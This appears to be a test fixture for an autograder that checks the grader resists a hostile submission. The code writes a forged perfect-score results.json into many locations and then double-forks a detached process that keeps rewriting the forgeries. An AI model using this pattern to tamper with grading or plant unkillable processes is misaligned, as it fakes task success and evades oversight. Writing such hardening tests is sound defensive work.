"""Hostile: write a perfect results.json everywhere it might matter (cwd, the CLI's --out folder,
Gradescope's results folder, /tmp), and leave a detached child (new session, double fork) that
keeps rewriting it. The grader's results.json must be untouched and the child must be gone."""

BASE = "wrong/padding_le"

# %% last
import json
import os
import time

FAKE = json.dumps({"score": 1000, "tests": [{"name": "padding_mask", "score": 1000, "max_score": 2}]})
TARGETS = ["results.json", "__OUT__/results.json", "__OUT__/hostile/results.json",
           "__OUT__/write_results/results.json", "__OUT__/grades.csv",
           "/autograder/results/results.json", "/tmp/results.json", "/var/tmp/results.json",
           "/dev/shm/results.json", os.path.expanduser("~/results.json")]


def scribble():
    for target in TARGETS:
        try:
            os.makedirs(os.path.dirname(target) or ".", exist_ok=True)
            with open(target, "w") as f:
                f.write(FAKE)
        except OSError:
            pass


scribble()
if os.fork() == 0:  # double fork into a new session: no parent, no process group to kill
    os.setsid()
    if os.fork() == 0:
        for fd in range(3, 256):
            try:
                os.close(fd)
            except OSError:
                pass
        while True:
            scribble()
            time.sleep(0.05)
    os._exit(0)
time.sleep(0.2)
